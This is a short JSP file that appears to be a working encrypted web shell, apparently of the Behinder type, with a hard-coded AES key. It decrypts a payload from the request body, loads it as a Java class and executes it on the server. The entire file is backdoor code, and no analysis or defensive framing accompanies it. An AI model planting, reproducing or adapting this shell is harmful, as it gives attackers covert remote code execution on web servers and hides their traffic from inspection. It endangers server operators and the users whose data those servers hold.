<%! class U extends ClassLoader { U(ClassLoader c) { super(c); } public Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } %><%
String k = "e45e329feb5d925b";
session.putValue("u", k);
javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES");
c.init(2, new javax.crypto.spec.SecretKeySpec(k.getBytes(), "AES"));
new U(this.getClass().getClassLoader()).g(c.doFinal(java.util.Base64.getDecoder().decode(request.getReader().readLine()))).newInstance().equals(pageContext);
%>
